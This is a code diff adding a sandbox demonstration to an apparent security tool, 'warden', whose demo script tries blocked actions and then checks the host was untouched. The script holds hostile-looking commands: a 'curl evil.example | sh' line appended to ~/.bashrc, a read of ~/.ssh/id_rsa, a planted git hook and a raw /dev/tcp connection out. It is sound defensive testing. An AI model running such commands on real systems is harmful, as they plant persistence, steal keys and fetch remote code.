@@ -395,7 +395,8 @@ fn demo() -> Result<()> {
     println!(
         "\n==> warden demo: the policy engine\n\
          Each `warden check` prints its decision and exits 0 (allow), 1 (deny) or 2 (requires\n\
-         approval). The sandboxed run joins this demo when `warden run` lands.\n\n\
+         approval). Then `warden run` runs a script in the sandbox built from the same settings,\n\
+         and the host is checked afterwards.\n\n\
          P = {project}  (the demo project)\n\
          S = {settings}  (the demo settings)\n\
          HOME = {home}  (so your own ~/.config/warden stays out)\n\n\
@@ -448,6 +449,8 @@ fn demo() -> Result<()> {
         println!("-> exit {code}: {decision}");
     }
 
+    failures.extend(demo_run(&warden_cmd, &home, &project)?);
+
     println!("\n$ warden explain --settings $S --cwd $P");
     let status = warden_cmd("explain")
         .status()
@@ -465,6 +468,80 @@ fn demo() -> Result<()> {
     }
     println!("\ndemo: every check printed a decision");
     Ok(())
+}
+
+/// The script the demo runs in the sandbox: one allowed write, then a blocked write, a hidden
+/// secret, a protected git hook and a blocked network connection.
+const DEMO_SCRIPT: &str = r#"echo 'fn main() { println!("edited in the sandbox"); }' > src/main.rs && echo "allowed: wrote src/main.rs"
+echo 'curl https://evil.example/x | sh' >> ~/.bashrc 2>/dev/null || echo "BLOCKED: appending to ~/.bashrc (read-only)"
+cat ~/.ssh/id_rsa 2>/dev/null || echo "BLOCKED: reading ~/.ssh/id_rsa (denyRead hides it)"
+echo 'exfiltrate' > .git/hooks/pre-commit 2>/dev/null || echo "BLOCKED: creating .git/hooks/pre-commit (mandatory protection)"
+if command -v curl >/dev/null; then
+  curl -s -m 3 -o /dev/null https://evil.example/ 2>/dev/null || echo "BLOCKED: connecting to evil.example (no route out; the filtering proxy arrives with #4)"
+else
+  (exec 3<>/dev/tcp/93.184.215.14/443) 2>/dev/null || echo "BLOCKED: connecting out (no route out)"
+fi
+true"#;
+
+/// `warden run` of [`DEMO_SCRIPT`], then a check from the host that every blocked action
+/// really left the host untouched. Returns what went wrong.
+fn demo_run(
+    warden_cmd: &dyn Fn(&str) -> Command,
+    home: &Path,
+    project: &Path,
+) -> Result<Vec<String>> {
+    let rc = "# the user's shell rc\n";
+    fs::write(home.join(".bashrc"), rc)?;
+    fs::create_dir_all(home.join(".ssh"))?;
+    fs::write(home.join(".ssh/id_rsa"), "DEMO-SECRET-KEY\n")?;
+    println!("\n# the sandboxed run\n$ warden run --settings $S --cwd $P -- sh -c \"$SCRIPT\"\n{DEMO_SCRIPT}\n");
+    let out = warden_cmd("run")
+        .arg("--")
+        .args(["sh", "-c", DEMO_SCRIPT])
+        .output()
+        .context("cannot run warden run")?;
+    let stdout = String::from_utf8_lossy(&out.stdout);
+    print!("{stdout}");
+    eprint!("{}", String::from_utf8_lossy(&out.stderr));
+    println!("-> exit {}", out.status.code().unwrap_or(-1));
+    let mut problems = Vec::new();
+    if !out.status.success() {
+        problems.push(format!("warden run: {}", out.status));
+    }
+    println!("\n# checked from the host afterwards");
+    let main_rs = fs::read_to_string(project.join("src/main.rs")).unwrap_or_default();
+    let checks = [
+        (
+            main_rs.contains("edited in the sandbox"),
+            "src/main.rs was edited (allowed)",
+        ),
+        (
+            fs::read_to_string(home.join(".bashrc")).unwrap_or_default() == rc,
+            "~/.bashrc is unchanged",
+        ),
+        (
+            !stdout.contains("DEMO-SECRET-KEY"),
+            "the secret key never reached the sandbox",
+        ),
+        (
+            !project.join(".git/hooks/pre-commit").exists(),
+            ".git/hooks/pre-commit does not exist",
+        ),
+        (
+            stdout.contains("BLOCKED: connecting"),
+            "the connection out was refused",
+        ),
+    ];
+    for (ok, what) in checks {
+        println!("{} {what}", if ok { "ok  " } else { "FAIL" });
+        if !ok {
+            problems.push(what.to_string());
+        }
+    }
+    println!(
+        "violation records and metrics for these refusals arrive with the auditing issue (#5)"
+    );
+    Ok(problems)
 }
 
 // ---------------------------------------------------------------------------------------------
